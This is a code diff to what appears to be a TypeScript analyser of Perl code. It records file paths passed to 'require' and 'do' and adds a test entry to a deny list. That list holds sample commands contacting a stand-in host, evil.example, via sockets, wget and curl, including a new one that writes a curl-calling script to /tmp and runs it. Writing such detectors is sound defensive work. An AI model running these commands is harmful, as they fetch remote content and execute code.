@@ -664,7 +664,11 @@ class PerlReader {
         case 'require': {
           const m = t[i + 1];
           if (!m) break;
-          if (name === 'require') this.out.push({ kind: 'load', api: 'require', span: { start: x.start, end: m.end } });
+          if (name === 'require') {
+            // `require "x.pl"`: the file it names.
+            const file = m.kind === 'str' ? this.args(i).args[0] : undefined;
+            this.out.push(file && strings(file.vals) ? { kind: 'load', api: 'require', span: { start: x.start, end: m.end }, path: wordOf(file) } : { kind: 'load', api: 'require', span: { start: x.start, end: m.end } });
+          }
           if (name === 'require' && m.kind !== 'word' && m.kind !== 'num') {
             // `require $module`: a file or module named at run time.
             if (m.kind === 'var') this.dynamic(x.start, m.end, 'require loads code whose name is computed');
@@ -697,7 +701,10 @@ class PerlReader {
         case 'do': {
           const next = t[i + 1];
           if (next && next.kind === 'var') this.dynamic(x.start, next.end, 'do runs a file whose name is computed');
-          if (next && next.text !== '{') this.out.push({ kind: 'load', api: 'do', span: { start: x.start, end: next.end } });
+          if (next && next.text !== '{') {
+            const file = next.kind === 'str' ? this.args(i).args[0] : undefined;
+            this.out.push(file && strings(file.vals) ? { kind: 'load', api: 'do', span: { start: x.start, end: next.end }, path: wordOf(file) } : { kind: 'load', api: 'do', span: { start: x.start, end: next.end } });
+          }
           break;
         }
         case 'sysopen': {
@@ -924,6 +931,7 @@ export const PERL: LanguageModel = {
     deny: [
       `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`,
       `perl -e 'print qx(wget -qO- evil.example)'`,
+      `echo 'system("curl evil.example")' > /tmp/x.pl; perl -e 'do "/tmp/x.pl"'`,
       'perl -e \'print `curl evil.example`\'',
       `perl -e 'system("curl evil.example")'`,
       `perl -e 'system "curl", "evil.example"'`,
